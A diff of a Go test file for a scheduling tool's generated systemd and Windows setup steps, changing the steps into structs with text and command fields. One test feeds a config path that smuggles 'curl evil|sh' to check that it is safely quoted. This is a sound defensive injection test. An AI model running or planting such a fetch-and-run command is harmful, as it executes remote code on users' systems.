@@ -1,6 +1,7 @@
 package schedule_test
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -60,7 +61,7 @@ func TestHiddenProgram(t *testing.T) {
 	if err != nil || !strings.Contains(entry, "ExecStart=/usr/local/bin/callroll sync") {
 		t.Errorf("%v in\n%s", err, entry)
 	}
-	if first := schedule.Steps(schedule.Systemd, c)[0]; first != "copy /home/me/callroll, which the service cannot see, to /usr/local/bin/callroll" {
+	if first := schedule.Steps(schedule.Systemd, c)[0].Text; first != "copy /home/me/callroll, which the service cannot see, to /usr/local/bin/callroll" {
 		t.Errorf("the first step is %q", first)
 	}
 }
@@ -84,7 +85,7 @@ func TestProgramOfWindows(t *testing.T) {
 		if err != nil || !strings.Contains(entry, "<Command>"+want+"</Command>") {
 			t.Errorf("%s: %v in\n%s", program, err, entry)
 		}
-		if told := strings.Contains(schedule.Steps(schedule.Windows, c)[0], "a copy of "+program); told != (want != program) {
+		if told := strings.Contains(schedule.Steps(schedule.Windows, c)[0].Text, "a copy of "+program); told != (want != program) {
 			t.Errorf("the steps for %s: %v", program, told)
 		}
 	}
@@ -97,12 +98,18 @@ func TestSteps(t *testing.T) {
 			t.Errorf("%s has no steps", f)
 		}
 	}
-	steps := strings.Join(schedule.Steps(schedule.Windows, schedule.Command{Config: `D:\call roll\callroll.yaml`}), "\n")
-	if !strings.Contains(steps, `icacls "D:\call roll" /inheritance:r`) {
-		t.Errorf("the steps are %s", steps)
+	commands := func(f schedule.Format, c schedule.Command) (all []string) {
+		for _, step := range schedule.Steps(f, c) {
+			all = append(all, step.Command)
+		}
+		return all
 	}
-	steps = strings.Join(schedule.Steps(schedule.Systemd, schedule.Command{Config: "/etc/x; curl evil|sh #/c.yaml"}), "\n")
-	if !strings.Contains(steps, "(chmod 644 '/etc/x; curl evil|sh #/c.yaml')") {
-		t.Errorf("the steps are %s", steps)
+	windows := commands(schedule.Windows, schedule.Command{Config: `D:\call roll\callroll.yaml`})
+	if !strings.HasPrefix(windows[2], `icacls "D:\call roll" /inheritance:r`) {
+		t.Errorf("the commands are %q", windows)
+	}
+	systemd := commands(schedule.Systemd, schedule.Command{Config: "/etc/x; curl evil|sh #/c.yaml"})
+	if !slices.Contains(systemd, "chmod 644 '/etc/x; curl evil|sh #/c.yaml'") {
+		t.Errorf("the commands are %q", systemd)
 	}
 }
